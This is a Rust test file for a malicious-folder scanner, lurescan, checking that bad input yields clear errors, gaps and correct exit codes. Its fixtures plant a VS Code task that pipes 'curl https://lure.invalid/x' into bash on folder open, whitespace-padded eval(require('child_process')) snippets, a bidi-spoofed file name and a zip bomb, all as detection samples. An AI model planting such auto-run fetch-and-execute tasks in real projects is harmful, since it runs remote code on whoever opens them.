//! Bad input, as the issue lists it: a clear message or a gap, the right exit code, and nothing found elsewhere is lost.

use std::fs;
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::Value;

/// The program in a scrubbed environment.
pub fn lurescan() -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_lurescan"));
    command.env_clear().env("PATH", "/usr/bin:/bin").stdin(Stdio::null());
    command
}

fn scan(target: &Path, more: &[&str]) -> Output {
    lurescan().arg("scan").args(more).arg(target).output().expect("the program starts")
}

fn record(target: &Path) -> (i32, Value) {
    let output = scan(target, &["-f", "ndjson"]);
    let text = String::from_utf8(output.stdout).expect("the report is UTF-8");
    let value = serde_json::from_str(text.lines().next().unwrap_or_default())
        .unwrap_or_else(|e| panic!("{e}: {text}\n{}", String::from_utf8_lossy(&output.stderr)));
    (output.status.code().expect("an exit code"), value)
}

/// A trap that must be found whatever stands beside it.
fn plant_trap(folder: &Path) {
    fs::create_dir_all(folder.join(".vscode")).expect("written");
    let tasks = r#"{"version":"2.0.0","tasks":[{"label":"env","type":"shell",
        "command":"curl -sL https://lure.invalid/x | bash","runOptions":{"runOn":"folderOpen"}}]}"#;
    fs::write(folder.join(".vscode/tasks.json"), tasks).expect("written");
}

fn finds_the_trap(folder: &Path) -> Value {
    let (code, record) = record(folder);
    assert_eq!(code, 1, "{record:#}");
    assert_eq!(record["verdict"], "block");
    let named = record["findings"].as_array().expect("findings").iter().any(|f| f["path"] == ".vscode/tasks.json");
    assert!(named, "{record:#}");
    record
}

fn gaps(record: &Value) -> String {
    record["gaps"].to_string()
}

#[test]
fn a_missing_path_is_a_usage_error_that_names_it() {
    let output = scan(Path::new("/nonexistent/target"), &[]);
    assert_eq!(output.status.code(), Some(2));
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(said.contains("/nonexistent/target"), "{said}");
    assert!(output.stdout.is_empty());
}

#[test]
fn an_empty_directory_is_nothing_to_scan() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    assert_eq!(scan(folder.path(), &[]).status.code(), Some(5));
}

#[test]
fn a_directory_loop_ends() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    plant_trap(folder.path());
    std::os::unix::fs::symlink(folder.path(), folder.path().join("loop")).expect("linked");
    finds_the_trap(folder.path());
}

#[test]
fn a_truncated_archive_is_a_gap_and_not_clean() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    zip.start_file("index.js", zip::write::SimpleFileOptions::default()).expect("started");
    zip.write_all(&b"module.exports = 1;\n".repeat(500)).expect("written");
    let bytes = zip.finish().expect("finished").into_inner();
    fs::write(folder.path().join("job.zip"), &bytes[..bytes.len() / 2]).expect("written");
    let (code, record) = record(folder.path());
    assert_eq!((code, &record["verdict"]), (4, &Value::from("incomplete")), "{record:#}");
}

#[test]
fn deep_nesting_costs_neither_the_scan_nor_the_findings_beside_it() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    plant_trap(folder.path());
    fs::write(folder.path().join("deep.js"), "[".repeat(100_000) + &"]".repeat(100_000)).expect("written");
    fs::write(folder.path().join("bang.js"), "!".repeat(300_000) + "0").expect("written");
    fs::write(folder.path().join("deep.json"), "[".repeat(100_000) + &"]".repeat(100_000)).expect("written");
    fs::write(folder.path().join("deep.py"), "(".repeat(100_000) + "1" + &")".repeat(100_000)).expect("written");
    finds_the_trap(folder.path());
}

#[test]
fn a_file_of_two_gigabytes_is_a_gap_and_costs_no_memory() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    plant_trap(folder.path());
    let file = fs::File::create(folder.path().join("huge.bin")).expect("created");
    file.set_len(2 << 30).expect("a sparse file");
    let record = finds_the_trap(folder.path());
    assert!(gaps(&record).contains("huge.bin"), "{record:#}");
}

#[test]
fn names_that_are_not_utf8_or_hold_escapes_are_printed_escaped() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    plant_trap(folder.path());
    for name in [&b"bad\xff.js"[..], b"esc\x1b[2J.js", "bidi\u{202e}sj.exe.js".as_bytes()] {
        let path = folder.path().join(std::ffi::OsStr::from_bytes(name));
        fs::write(path, format!("{}eval(require('child_process'))", " ".repeat(300))).expect("written");
    }
    finds_the_trap(folder.path());
    let human = scan(folder.path(), &[]).stdout;
    assert!(!human.contains(&0x1b) && !String::from_utf8_lossy(&human).contains('\u{202e}'));
    assert!(std::str::from_utf8(&human).is_ok());
}

#[test]
fn a_user_rule_that_does_not_compile_is_a_usage_error_that_names_file_and_line() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    fs::write(folder.path().join("mine.yar"), "rule broken {\n  condition:\n    nonsense\n}\n").expect("written");
    let rules = folder.path().to_str().expect("UTF-8").to_owned();
    let output = scan(Path::new("samples/tour"), &["--rules", &rules]);
    let said = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(output.status.code(), Some(2), "{said}");
    assert!(said.contains("mine.yar") && said.contains("nonsense"), "{said}");
}

#[test]
fn a_zip_bomb_ends_in_a_gap() {
    let folder = tempfile::tempdir().expect("a temporary folder");
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let zeros = vec![0u8; 1 << 20];
    for number in 0..8 {
        zip.start_file(format!("{number}.bin"), zip::write::SimpleFileOptions::default()).expect("started");
        for _ in 0..100 {
            zip.write_all(&zeros).expect("written");
        }
    }
    fs::write(folder.path().join("bomb.zip"), zip.finish().expect("finished").into_inner()).expect("written");
    let (code, record) = record(folder.path());
    assert_eq!((code, &record["verdict"]), (4, &Value::from("incomplete")), "{record:#}");
}
